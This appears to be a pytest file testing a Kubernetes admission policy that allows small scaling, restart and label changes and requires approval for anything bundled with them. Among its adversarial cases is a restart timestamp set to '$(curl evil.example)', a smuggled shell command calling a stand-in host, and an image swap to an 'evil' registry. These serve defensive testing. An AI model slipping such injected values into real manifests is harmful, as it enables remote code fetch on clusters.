"""small-changes-pass: scaling, restarts and labels pass alone and within bounds; beside anything else they are asked for.

Each scenario that asks is an attempt to slip something through.
"""

import pytest

from kubeapprove.request import Request
from tests.policies import scenes
from tests.policies.workloads import RESTARTED_AT, owned, restart, scale, update, workload

POLICY = scenes.ready_made("small-changes-pass")
TEMPLATE = "spec|template|metadata"
IMAGE = ("spec|template|spec|containers|0|image", "registry.example/evil:1")
TEN_OF_ARGO = [owned("argocd", "replicas", "paused")]

PASSES: dict[str, tuple[str, Request]] = {
    "3 to 5 by apply": ("scale", update(("spec|replicas", 5))),
    "3 to 1": ("scale", update(("spec|replicas", 1))),
    "1 to 10": ("scale", update(("spec|replicas", 10), old=workload(1))),
    "3 to 5 by kubectl scale": ("scale", scale(3, 5)),
    "10 to 1 by kubectl scale": ("scale", scale(10, 1)),
    "in staging": ("scale", scale(3, 5, namespace="staging")),
    "the number, and its ownership with it": (
        "scale",
        update(
            ("spec|replicas", 5),
            ("metadata|managedFields", [owned("argocd", "paused")]),
            old=workload(managedFields=TEN_OF_ARGO),
        ),
    ),
    "a restart": ("restart", restart()),
    "a second restart": ("restart", restart(old=restart(at="2026-01-30T09:00:00Z").object)),
    "a restart of a StatefulSet": ("restart", restart(resource="statefulsets")),
    "a restart of a DaemonSet": ("restart", restart(resource="daemonsets")),
    "a label": ("labels", update(("metadata|labels|team", "payments"))),
    "a new label": ("labels", update(("metadata|labels|cost-center", "4711"))),
    "two labels": ("labels", update(("metadata|labels|team", "a"), ("metadata|labels|cost-center", "b"))),
    "a label of a ConfigMap": ("labels", update(("metadata|labels|team", "a"), resource="configmaps")),
    "a label of a CronJob": ("labels", update(("metadata|labels|team", "a"), resource="cronjobs")),
}

ASKS: dict[str, Request] = {
    # scale
    "the number and the image": update(("spec|replicas", 5), IMAGE),
    "the number and a label": update(("spec|replicas", 5), ("metadata|labels|team", "a")),
    "the number and a restart": restart(("spec|replicas", 5)),
    "to 11": update(("spec|replicas", 11)),
    "to 0": update(("spec|replicas", 0)),
    "to -1": update(("spec|replicas", -1)),
    "from 0": update(("spec|replicas", 3), old=workload(0)),
    "from 50": update(("spec|replicas", 3), old=workload(50)),
    "the number removed": update(("spec|replicas", None)),
    "kubectl scale to 0": scale(3, 0),
    "kubectl scale from 0": scale(0, 3),
    "kubectl scale to 11": scale(3, 11),
    "a Scale with another label": scale(3, 5, ("metadata|labels|app", "x")),
    "a Scale with another selector": scale(3, 5, ("status|selector", "app=x")),
    "a number that only looks like it": update(("spec|template|replicas", 5)),
    "the number of a StatefulSet": update(("spec|replicas", 5), resource="statefulsets"),
    "the Scale of a StatefulSet": scale(3, 5, resource="statefulsets"),
    "the number of a ReplicaSet": update(("spec|replicas", 5), resource="replicasets"),
    "a number of another group": update(("spec|replicas", 5), group="example.org"),
    "the number in another namespace": update(("spec|replicas", 5), namespace="production"),
    "the Scale in another namespace": scale(3, 5, namespace="production"),
    "the number, and somebody else's field taken": update(
        ("spec|replicas", 5),
        ("metadata|managedFields", [owned("argocd", "replicas")]),
        old=workload(managedFields=TEN_OF_ARGO),
    ),
    "a new Deployment": scenes.request("CREATE", "deployments", object=workload()),
    "a Deployment deleted": scenes.request("DELETE", "deployments"),
    "its status": update(("status|replicas", 5), resource="deployments/status"),
    # restart
    "a restart and the image": restart(IMAGE),
    "a restart and another annotation": restart((f"{TEMPLATE}|annotations|sidecar.istio.io/inject", "false")),
    "a restart and a label of the Pods": restart((f"{TEMPLATE}|labels|app", "other")),
    "a restart at no time": restart(at="$(curl evil.example)"),
    "a restart at an empty time": restart(at=""),
    "a restart taken back": update(
        (f"{TEMPLATE}|annotations|{RESTARTED_AT}", None),
        old=restart().object,
    ),
    "restartedAt of the Deployment itself": update((f"metadata|annotations|{RESTARTED_AT}", "2026-01-31T09:00:00Z")),
    "another annotation with a time": update((f"{TEMPLATE}|annotations|other", "2026-01-31T09:00:00Z")),
    "a restart of a ReplicaSet": restart(resource="replicasets"),
    "a restart of a Job": restart(resource="jobs"),
    "a restart in another namespace": restart(namespace="kube-system"),
    # labels
    "another label": update(("metadata|labels|app", "other")),
    "a listed label and another": update(("metadata|labels|team", "a"), ("metadata|labels|app", "b")),
    "a listed label removed": update(("metadata|labels|team", None)),
    "all labels removed": update(("metadata|labels", None)),
    "an annotation named like a label": update(("metadata|annotations|team", "a")),
    "a label of the Pods": update((f"{TEMPLATE}|labels|team", "a")),
    "a label with a finalizer": update(("metadata|labels|team", "a"), ("metadata|finalizers", ["example.org/stuck"])),
    "a label with an owner": update(("metadata|labels|team", "a"), ("metadata|ownerReferences", [{"uid": "x"}])),
    "a label with data": update(("metadata|labels|team", "a"), ("data|k", "v"), resource="configmaps"),
    "labels in another namespace": update(("metadata|labels|team", "a"), namespace="production"),
    "a label, and somebody else's field taken": update(
        ("metadata|labels|team", "a"),
        ("metadata|managedFields", [owned("argocd", "replicas")]),
        old=workload(managedFields=TEN_OF_ARGO),
    ),
    **{
        f"a label of {kind}": update(("metadata|labels|team", "a"), resource=kind)
        for kind in (
            "namespaces", "nodes", "pods", "services", "secrets", "serviceaccounts", "roles", "rolebindings",
            "clusterroles", "clusterrolebindings", "replicasets", "jobs", "persistentvolumes", "endpoints",
        )
    },
}  # fmt: skip


@pytest.mark.parametrize("scenario", PASSES)
def test_passes(scenario: str) -> None:
    rule, request = PASSES[scenario]
    assert scenes.answer(request, POLICY) == f"Allow {rule}"


@pytest.mark.parametrize("scenario", ASKS)
def test_asks(scenario: str) -> None:
    assert scenes.answer(ASKS[scenario], POLICY) == "RequireApproval -"


@pytest.mark.parametrize("number", ["5", [5]])
def test_a_number_that_is_none_is_denied(number: object) -> None:
    assert scenes.answer(update(("spec|replicas", number)), POLICY) == "Deny -"


def test_a_namespace_called_dev_is_no_place_in_dev() -> None:
    request = update(("metadata|labels|team", "a"), resource="namespaces", name="dev")
    assert request.namespace == "dev"
    assert scenes.answer(request, POLICY) == "RequireApproval -"
